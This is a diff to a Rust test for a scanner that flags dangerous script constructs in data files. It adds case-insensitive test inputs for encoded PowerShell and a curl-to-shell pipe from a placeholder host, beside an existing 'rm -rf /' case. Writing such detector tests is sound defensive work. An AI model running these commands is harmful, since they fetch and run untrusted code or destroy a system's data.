@@ -286,6 +286,17 @@ fn dangerous_script_constructs_in_data() {
             "{\"cmd\": \"sudo rm -rf / --no-preserve-root\"}",
             "script.destructive",
         ),
+        // Shells and PowerShell ignore case; so does the scanner.
+        (
+            "f.txt",
+            "PoWeRsHeLl.ExE -EnC SQBFAFgA\n",
+            "script.encoded_powershell",
+        ),
+        (
+            "g.csv",
+            "1,CURL -s http://x.io/i | SH\n",
+            "script.pipe_to_shell",
+        ),
     ];
     for (name, text, rule) in positive {
         let report = scan(name, text.as_bytes());
